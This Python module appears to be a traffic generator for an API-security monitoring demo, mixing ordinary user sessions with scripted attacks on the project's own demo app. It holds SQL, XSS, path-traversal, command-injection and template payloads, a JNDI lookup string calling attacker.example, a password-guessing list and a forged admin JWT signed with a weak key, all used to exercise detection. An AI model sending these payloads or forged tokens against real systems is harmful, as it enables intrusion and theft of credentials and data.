"""The demo's traffic player: a few ordinary users, and now and then an attack.

`Player(base_url).play_round(n)` plays round `n` (about a second of traffic): every user lists their
orders, opens one, looks at their profile and searches; one of them opens their billing page (whose
answer leaks PII); a legacy client calls the deprecated v1 API (a zombie) and an internal tool the
shadow endpoint. The attacks come early in every cycle of `CYCLE_ROUNDS` rounds, so that a short run
sees them all:

    round 1  brute force: 25 wrong passwords for one account, from one address
    round 2  ID walk: a signed-in user fetches 30 orders in a row (enumeration, BOLA)
    round 3  injection: SQL, XSS, path traversal, command, template and JNDI payloads in a search
    round 4  weak JWT: an admin token forged with the HMAC key `secret`, used on the admin API
    round 5  shadow endpoint: repeated calls to the undocumented export

Each simulated client has its own public address, sent as X-Forwarded-For (the app trusts its
proxy). Uses only the standard library.
"""

from __future__ import annotations

import json
import random
import time
import urllib.error
import urllib.parse
import urllib.request
from collections import Counter
from dataclasses import dataclass, field

from otel_apisec.examples.demo.app import ACCOUNTS, LEGACY_JWT_SECRET, PASSWORDS, issue_token

__all__ = ["ATTACKS", "CYCLE_ROUNDS", "GUESSED_PASSWORDS", "INJECTIONS", "Player", "forged_admin_token"]

CYCLE_ROUNDS = 120
"""The attacks replay every this many rounds (about two minutes)."""
ATTACKS = {1: "brute force", 2: "ID walk", 3: "injection", 4: "weak JWT", 5: "shadow endpoint"}
"""Round of the cycle -> the attack played in it."""

USERS_AT = {"ada": "81.2.69.160", "grace": "151.101.0.1", "alan": "5.9.0.1", "katherine": "62.210.0.1",
            "mallory": "45.33.0.1"}
"""Each user's client address (GB, US, DE, FR, US in the gateway's offline GeoIP data)."""
ATTACKER_AT = "185.220.101.1"
LEGACY_CLIENT_AT = "1.0.16.1"
INTERNAL_TOOL_AT = "2.16.0.1"
SEARCH_WORDS = ("lamp", "desk", "chair", "cable", "monitor", "keyboard", "mouse", "headphones")
GUESSED_PASSWORDS = ("123456", "password", "qwerty", "letmein", "katherine1", "admin", "welcome", "iloveyou",
                     "monkey", "dragon", "sunshine", "princess", "football", "baseball", "master", "shadow",
                     "superman", "trustno1", "hello123", "passw0rd", "starwars", "summer2024", "winter2024",
                     "orbit", "nasa1962")
"""The brute force's guesses (none is the account's password)."""
INJECTIONS = ("' OR '1'='1' --", "1 UNION SELECT username, password FROM users--", "<script>alert(document.cookie)</script>",
              "../../../../etc/passwd", "; cat /etc/passwd", "{{7*7}}${7*7}", "${jndi:ldap://attacker.example/a}")
WALK_FIRST, WALK_LENGTH = 5100, 30
_TIMEOUT_S = 5.0


def forged_admin_token(now: float | None = None) -> str:
    """The weak-JWT attack's token: `role: admin`, signed with the app's old key `secret`."""
    claims = {"sub": "mallory", "uid": ACCOUNTS["mallory"], "role": "admin", "exp": int(now or time.time()) + 600}
    return issue_token(claims, LEGACY_JWT_SECRET)


@dataclass
class Player:
    """Plays the demo's traffic against `base_url`, counting requests per scenario."""

    base_url: str
    seed: int = 13
    sent: Counter[str] = field(default_factory=Counter)
    """Requests answered, by scenario (`normal`, `brute force`, ...)."""
    failed: int = 0
    """Requests that got no answer (connection refused, timeout)."""

    def __post_init__(self) -> None:
        self._random = random.Random(self.seed)
        self._tokens: dict[str, str] = {}
        self._orders: dict[str, list[int]] = {}

    # -- one request ------------------------------------------------------------------------------

    def _call(self, scenario: str, address: str, method: str, path: str, *, token: str | None = None,
              body: object | None = None) -> tuple[int, object]:
        headers = {"X-Forwarded-For": address, "User-Agent": f"demo-traffic/{scenario.replace(' ', '-')}"}
        data = None
        if token:
            headers["Authorization"] = f"Bearer {token}"
        if body is not None:
            data = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        request = urllib.request.Request(self.base_url + path, data, headers, method=method)
        try:
            with urllib.request.urlopen(request, timeout=_TIMEOUT_S) as response:
                status, raw = response.status, response.read()
        except urllib.error.HTTPError as error:
            status, raw = error.code, error.read()
        except OSError:
            self.failed += 1
            return 0, None
        self.sent[scenario] += 1
        try:
            return status, json.loads(raw or b"null")
        except ValueError:
            return status, None

    # -- scenarios --------------------------------------------------------------------------------

    def _login(self, user: str) -> str | None:
        if user not in self._tokens:
            status, answer = self._call("normal", USERS_AT[user], "POST", "/api/login",
                                        body={"username": user, "password": PASSWORDS[user]})
            if status == 200 and isinstance(answer, dict):
                self._tokens[user] = str(answer["token"])
        return self._tokens.get(user)

    def _user_visit(self, user: str, billing: bool) -> None:
        token = self._login(user)
        if token is None:
            return
        address = USERS_AT[user]
        status, answer = self._call("normal", address, "GET", "/api/orders", token=token)
        if status == 200 and isinstance(answer, dict):
            self._orders[user] = [int(order["id"]) for order in answer.get("orders", [])]
        elif status == 401:  # expired: sign in again next time
            self._tokens.pop(user, None)
            return
        if self._orders.get(user):
            self._call("normal", address, "GET", f"/api/orders/{self._random.choice(self._orders[user])}", token=token)
        self._call("normal", address, "GET", f"/api/users/{ACCOUNTS[user]}", token=token)
        self._call("normal", address, "GET", f"/api/search?q={self._random.choice(SEARCH_WORDS)}")
        if billing:
            self._call("PII leak", address, "GET", f"/api/users/{ACCOUNTS[user]}/billing", token=token)

    def brute_force(self) -> None:
        for guess in GUESSED_PASSWORDS:
            self._call("brute force", ATTACKER_AT, "POST", "/api/login", body={"username": "katherine", "password": guess})

    def id_walk(self) -> None:
        token = self._login("mallory")
        for order_id in range(WALK_FIRST, WALK_FIRST + WALK_LENGTH):
            self._call("ID walk", USERS_AT["mallory"], "GET", f"/api/orders/{order_id}", token=token)

    def injection(self) -> None:
        for payload in INJECTIONS:
            query = urllib.parse.quote(payload, safe="")
            self._call("injection", ATTACKER_AT, "GET", f"/api/search?q={query}")

    def weak_jwt(self) -> None:
        token = forged_admin_token()
        for _ in range(3):
            self._call("weak JWT", USERS_AT["mallory"], "GET", "/api/admin/users", token=token)

    def shadow(self, times: int = 3) -> None:
        for _ in range(times):
            self._call("shadow endpoint", INTERNAL_TOOL_AT, "GET", "/api/internal/export")

    def zombie(self) -> None:
        order_id = self._random.choice(sorted(self._orders.get("ada") or [5000]))
        self._call("zombie API", LEGACY_CLIENT_AT, "GET", f"/api/v1/orders/{order_id}")

    # -- a round ----------------------------------------------------------------------------------

    def play_round(self, number: int) -> str | None:
        """Play round `number` (from 0); the attack it played, if any."""
        users = [user for user in USERS_AT if user != "mallory" or number % 4 == 0]
        for index, user in enumerate(users):
            self._user_visit(user, billing=index == number % len(users))
        if number % 3 == 0:
            self.zombie()
        if number % 10 == 7:
            self.shadow(1)
        attack = ATTACKS.get(number % CYCLE_ROUNDS)
        if attack == "brute force":
            self.brute_force()
        elif attack == "ID walk":
            self.id_walk()
        elif attack == "injection":
            self.injection()
        elif attack == "weak JWT":
            self.weak_jwt()
        elif attack == "shadow endpoint":
            self.shadow()
        return attack
